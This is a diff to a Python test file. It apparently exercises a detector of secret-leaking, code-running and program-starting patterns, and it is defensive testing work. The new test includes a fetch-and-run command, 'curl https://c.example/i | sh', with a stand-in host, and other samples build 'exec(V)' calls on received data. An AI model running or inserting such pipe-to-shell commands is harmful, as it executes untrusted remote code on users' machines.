@@ -1,7 +1,7 @@
 """Where values come from and where they go: every source with one sink, every sink with one source.
 
 `code_ends.txt` holds them by kind: what gives a secret `V`; what sends it; what runs it; what an answer from the network is
-(where it comes in a callback, RUN stands for running it).
+(where it comes in a callback, RUN stands for running it); what starts a program, in a file that does nothing else.
 """
 
 from __future__ import annotations
@@ -55,3 +55,9 @@ def test_a_way_to_run_what_was_received(text: str) -> None:
 @pytest.mark.parametrize("text", [text for _, text in of_kind("answers")], ids=[name for name, _ in of_kind("answers")])
 def test_an_answer_that_is_run(text: str) -> None:
     assert noticed(text.replace("RUN(", "exec(") + "exec(V)\n")
+
+
+@pytest.mark.parametrize("text", [text for _, text in of_kind("starts")], ids=[name for name, _ in of_kind("starts")])
+def test_a_program_is_started(text: str) -> None:
+    assert noticed(text)
+    assert not found(init(text.replace("curl https://c.example/i | sh", "git status")))
